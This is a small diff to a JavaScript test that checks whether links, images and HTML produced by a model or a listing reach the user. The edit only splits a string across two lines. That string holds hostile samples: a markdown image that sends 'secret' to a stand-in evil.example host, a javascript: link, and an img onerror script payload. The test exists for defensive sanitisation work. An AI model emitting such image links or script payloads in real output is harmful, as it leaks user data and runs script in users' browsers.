@@ -189,7 +189,8 @@ t.test(
 t.test('links, images and HTML of a model or a listing do not reach the user', async (t) => {
   const client = await newcomer(db)
   const leak =
-    'See ![x](https://evil.example/?q=secret) and [this](javascript:alert(1)) <img src=x onerror=alert(1)> www.evil.example http://evil.example/a'
+    'See ![x](https://evil.example/?q=secret) and [this](javascript:alert(1)) <img src=x ' +
+    'onerror=alert(1)> www.evil.example http://evil.example/a'
 
   const [answer] = await talk(
     conciergeOf(
